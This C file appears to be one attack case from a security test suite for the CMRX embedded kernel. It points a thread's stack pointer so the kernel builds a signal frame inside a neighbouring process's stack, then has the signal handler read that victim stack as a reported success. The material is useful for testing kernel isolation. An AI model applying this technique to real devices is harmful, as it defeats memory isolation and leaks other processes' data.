/* Attack: stretch one's stack window over a neighbour's stack.
 *
 * The layout (list.cmake sizes the processes for it) puts the victim's
 * stack right below the attacker's .data. A thread that points its stack
 * pointer just above the start of its .data and takes a signal makes the
 * kernel build the signal frame across that boundary: into the victim's
 * stack. On ARMv8-M the handler's stack region then runs from the
 * thread's own slot up to the frame, over the victim's stack, which the
 * handler reads; on ARMv7-M the kernel's own writes (the frame and the
 * handler's entry frame) land in the victim's stack. */
#include "attack.h"
#include "fake.h"

extern uint8_t __cmrx_p_attack_stackwin_data_start[];
#define DATA_START ((uintptr_t)__cmrx_p_attack_stackwin_data_start)

/* Sizes the .data/.bss region (smaller than the victim's stack, larger
 * than anything else), and keeps our own variables clear of the frame. */
static volatile uint32_t landing[320] = {1};
static volatile int handled;
static volatile unsigned stolen;

static void handler(uint32_t signals)
{
    (void)signals;
    handled = 1;
    /* The victim's stack: the 2 KiB below .data, as far as the window
     * reaches (up to the frame). */
    stolen = secret_hits((const volatile uint32_t *)(DATA_START - 2048u), (2048u - 96u) / 4u);
}

static int stretcher(void *arg)
{
    (void)arg;
    if ((uintptr_t)landing != DATA_START) {
        cmrx_printf("attack_stackwin: .data does not start with the landing area\n");
    }
    cmrx_signal_handler(handler);
#if defined(CMRX_ATTACK_ARMV8M)
    uint32_t sp = (uint32_t)DATA_START + 128u; /* frame from .data - 48 */
#else
    uint32_t sp = (uint32_t)DATA_START + 80u; /* frame from .data - 32 */
#endif
    register uint32_t r0 __asm("r0") = (uint32_t)cmrx_thread_self();
    register uint32_t r1 __asm("r1") = CMRX_SIGUSR1;
    register uint32_t r2 __asm("r2") = sp;
    __asm volatile("mov r4, sp\n\t"
                   "mov sp, r2\n\t"
                   "bl cmrx_signal_send\n\t"
                   "mov sp, r4\n\t"
                   : "+r"(r0), "+r"(r1), "+r"(r2)
                   :
                   : "r3", "r4", "r12", "lr", "memory");
    cmrx_printf("attack_stackwin: the handler %s\n", handled ? "ran" : "did not run");
    if (stolen > 0) {
        ATTACK_SUCCEEDED("a signal handler read %u words of the victim's stack", stolen);
    }
    return 0;
}

static int attack(void *arg)
{
    (void)arg;
    cmrx_tid_t t = cmrx_thread_create(stretcher, NULL, 20);
    cmrx_thread_join(t, NULL);
    attack_done(1);
    return 0;
}
CMRX_THREAD(attack, NULL);
